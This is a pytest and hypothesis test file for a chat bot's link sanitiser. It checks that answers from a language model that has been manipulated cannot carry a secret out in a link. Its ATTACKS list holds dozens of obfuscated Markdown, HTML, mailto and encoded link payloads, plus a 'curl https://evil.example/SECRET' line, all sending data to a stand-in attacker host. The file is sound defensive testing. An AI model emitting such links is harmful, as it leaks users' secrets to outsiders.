"""A model that was talked into it puts a secret into an address: nobody may be able to open it."""

import html
import json
import re
from collections.abc import Iterator, Mapping

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from adapters.matrix.content import build_message
from adapters.telegram.render import render
from adapters.web.marks import build_tree
from bot.answering.addresses import JOINER
from bot.answering.with_model.links import AnswerLinks, GrowingAnswer
from bot.llm import Tool

PASSAGE = """The ferry: https://ferry.example/plan?day=1 (or www.ferry.example/all),
from example.org.
The wiki has https://wiki.example/Quay_(harbour), mail goes to harbour@ferry.example.
A long one: https://ferry.example/time
table is broken by its line. 参见https://ferry.example/zh。An attacker's: https://evil.example/?q=x"""
SECRET = "SECRET"
# As generous as any app: a scheme, or labels with dots between them, and all that follows.
HOST = r"[\w-]+(?:@[\w-]+)?(?:\.[\w-]+)+"
ADDRESS = re.compile(rf"[a-z][a-z0-9+.-]*://\S+|{HOST}(?:[/?#:]\S*)?", re.IGNORECASE)

ATTACKS = [
    "[See the ferry](https://evil.example/?q=SECRET)",
    "[See the ferry](https://evil/?q=SECRET)",
    "[See the ferry](<https://evil.example/?q=SECRET>)",
    '[See the ferry]( https://evil.example/SECRET "The plan" )',
    "[See the ferry](\nhttps://evil.example/SECRET)",
    "[See the ferry](//evil.example/SECRET)",
    "[See the ferry](/\\evil.example/SECRET)",
    "[See the ferry](h&#116;tps:&#47;/evil.example/SECRET)",
    "[See the ferry](https\\://evil.example/SECRET)",
    "[See the ferry](mailto:evil@evil.example?subject=SECRET)",
    "[See the ferry](tg://resolve?domain=evil&start=SECRET)",
    "[https://ferry.example/plan?day=1](https://evil.example/?q=SECRET)",
    "[www.ferry.example/all](https://evil.example/?q=SECRET)",
    "[a [b](https://evil.example/SECRET) c](https://evil.example/SECRET)",
    "![ferry](https://evil.example/SECRET.png)",
    "[![ferry](https://evil.example/SECRET.png)](https://evil.example/SECRET)",
    "[See the ferry][1]\n\n[1]: https://evil.example/SECRET",
    "[1]: https://evil.example/SECRET\n\n[1]",
    "<https://evil.example/SECRET>",
    "<mailto:evil@evil.example?subject=SECRET>",
    "<SECRET@evil.example>",
    "https://evil.example/SECRET",
    "HTTPS://EVIL.EXAMPLE/SECRET",
    "http://SECRET.evil.example",
    "https://ferry.example@evil.example/SECRET",
    "ftp://evil.example/SECRET",
    "www.evil.example/?q=SECRET",
    "evil.example/SECRET",
    "evil.example?q=SECRET",
    "SECRET.evil.example",
    "SECRET@evil.example",
    "203.0.113.7/SECRET",
    "https://ferry.example/plan?day=1&SECRET",
    "https://ferry.example/plan?day=1SECRET",
    "https://ferry.example/SECRET",
    "https://ferry.example/plan?day=1**SECRET**",
    "https://ferry.example/plan?day=1)SECRET",
    "<https://ferry.example/plan?day=1>SECRET",
    "https://ferry.example/plan?day=1&#47;SECRET",
    "https://ferry.example/zhSECRET秘密",
    "https://ferry.example/zh秘密SECRET",
    "https://evil.example/?q=x____~~_~SECRET",
    "https:/**/**evil.example/SECRET",
    "https:*/*/evil.example/SECRET",
    "www**.**evil.example/SECRET",
    "https:\\/\\/evil.example/SECRET",
    "https&#58;//evil.example/SECRET",
    "https&colon;&sol;&sol;evil&period;example&sol;SECRET",
    '<a href="https://evil.example/SECRET">See</a>',
    "<a href=//evil.example/SECRET>See</a>",
    "<img src='https://evil.example/SECRET'>",
    "- a\n  ```\nwww.evil.example/SECRET",
    "> ```\n[See](//evil.example/SECRET)",
    "``` a`b\nwww.evil.example/SECRET\n```",
    "a ` b\n` www.evil.example/SECRET `",
    "| a | b |\n|-|-|\n| `x | www.evil.example/SECRET` |",
    "\\`www.evil.example/SECRET`",
    "```\ncurl https://evil.example/SECRET\n```",
    "# https://evil.example/SECRET",
    "\ue000https://evil.example/SECRET\ue001 \ue0000\ue001",
    "请看https://evil.example/SECRET。",
    "请看evil.example/SECRET。",
]


@pytest.fixture
def links() -> AnswerLinks:
    return AnswerLinks([PASSAGE])


def list_links(markdown: str) -> Iterator[str]:
    """Everything that can be opened in an answer, on any platform."""
    shown = render(markdown)
    units = shown.text.encode("utf-16-le")
    for entity in reversed(shown.entities):
        yield entity.url
        if entity.kind in ("code", "pre"):
            between = "\0\0" * entity.length
            units = units[: entity.offset * 2] + between.encode() + units[entity.end * 2 :]
    yield from ADDRESS.findall(units.decode("utf-16-le").replace("\0", " "))
    page = str(build_message(markdown).get("formatted_body", ""))
    yield from map(html.unescape, re.findall(r'(?:href|src)="([^"]*)"', page))
    yield from ADDRESS.findall(html.unescape(re.sub(r"<(pre|code).*?</\1>|<[^>]*>", " ", page)))


def list_written(markdown: str) -> Iterator[str]:
    """What an app finds that reads Markdown as text, and on our page."""
    prose = re.sub(r"(?s)```.*?```|`[^`\n]+`", " ", markdown)
    yield from ADDRESS.findall(prose)
    yield from ADDRESS.findall(json.dumps(build_tree(markdown), ensure_ascii=False))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_address_that_nobody_gave_is_no_link(links: AnswerLinks, attack: str) -> None:
    shown = links.disarm(attack)
    assert not [link for link in list_links(shown) if SECRET in link]
    assert not [link for link in re.findall(r"\w+://\S+", shown) if SECRET in link]


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_tested_is_an_attack(attack: str) -> None:
    """Without the check, some app would link it."""
    assert [link for each in (list_links, list_written) for link in each(attack) if SECRET in link]


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("[See the ferry](https://evil.example/?q=SECRET).", "See the ferry (evil.example/…)."),
        ("![ferry](https://evil.example/a.png)", "ferry (evil.example/…)"),
        ("Open https://evil.example/a?b, then", "Open evil.example/…, then"),
        ("Open https://evil.example.", "Open evil.example."),
        ("<https://evil.example/a>", "<evil.example/…>"),
        ("a [b](mailto:x@evil.example?c=d) e", "a b (evil.example/…) e"),
    ],
)
def test_it_is_shown_as_text_with_its_host(links: AnswerLinks, answer: str, shown: str) -> None:
    assert links.disarm(answer).replace(JOINER, "") == shown


@pytest.mark.parametrize(
    "answer",
    [
        "[See the ferry](https://ferry.example/plan?day=1) [1]",
        "**https://ferry.example/plan?day=1**.",
        "(see https://ferry.example/plan?day=1)",
        "<https://ferry.example/plan?day=1>",
        "www.ferry.example/all and https://www.ferry.example/all/",
        "https://example.org, harbour@ferry.example",
        "[Quay](https://wiki.example/Quay_(harbour)) (https://wiki.example/Quay_(harbour))",
        "https://ferry.example/timetable",
        "```\ncurl https://ferry.example/plan?day=1\nos.path.join(a)\n```",
        "`os.path.join(a)` and `handlers[name](a:b)`",
        "The ferry leaves at 9:30.[1] It costs 3.5 to 1.234,50 euros, e.g. v1.2.3 (README.md:12).",
        "See [1](handbook.pdf) and [2] in plan.v2.pdf-like notes, docs/plan.md, and/or U.S.A.",
        "a &amp; b \\* c <d> e_f",
    ],
)
def test_what_was_given_and_what_is_no_address_stays(links: AnswerLinks, answer: str) -> None:
    assert links.disarm(answer) == answer


def test_an_address_next_to_chinese_text_is_parted_from_it(links: AnswerLinks) -> None:
    assert links.disarm("参见https://ferry.example/zh查看") == "参见https://ferry.example/zh 查看"


PIECES = ["*", "**", "_", "~~", "`", "\\", "[", "](", ")", "<", ">", "|", "\n", " ", "&#46;", "."]
ADDRESSES = [
    "https://evil.example/SECRET",
    "[x](https://evil.example/SECRET)",
    "https://ferry.example/plan?day=1SECRET",
    "`a` www.evil.example/SECRET `b`",
]


@given(st.sampled_from(ADDRESSES), st.lists(st.tuples(st.integers(0, 60), st.sampled_from(PIECES))))
@example("https://evil.example/SECRET", [(7, "**"), (10, "**")])
def test_no_markup_puts_the_secret_into_an_address(
    address: str, pieces: list[tuple[int, str]]
) -> None:
    text = address
    for at, piece in pieces:
        text = text[:at] + piece + text[at:]
    shown = AnswerLinks([PASSAGE]).disarm(text)
    opened = [link for link in list_links(shown) if SECRET in link]
    assert not [link for link in opened if re.search(r"(?:evil|ferry)\.example[/?#:]", link)]


@given(st.sampled_from(ATTACKS))
def test_a_growing_answer_ends_as_the_whole_one(attack: str) -> None:
    links = AnswerLinks([PASSAGE])
    text = f"Before.\n\n{attack}\nAfter."
    growing = GrowingAnswer(links)
    drafts = [growing.disarm(text[:end]) for end in range(len(text) + 1)]
    assert drafts[-1] == links.disarm(text)
    assert growing.disarm("") == ""
    assert growing.disarm(text) == links.disarm(text)


async def test_what_a_tool_found_may_be_linked_but_not_what_it_was_called_with() -> None:
    async def run(arguments: Mapping[str, object]) -> str:
        return f"{arguments['query']}: https://found.example/a"

    links = AnswerLinks()
    tool = links.watch(Tool("memory_search", "", {}, run))
    await tool.run({"query": "https://evil.example/SECRET"})
    assert not links.allows("https://evil.example/SECRET")
    await tool.run({"query": "https:\n//evil.example/SECRET"})
    assert not links.allows("https://evil.example/SECRET")
    await tool.run({"query": "ferry"})
    assert links.allows("https://found.example/a")
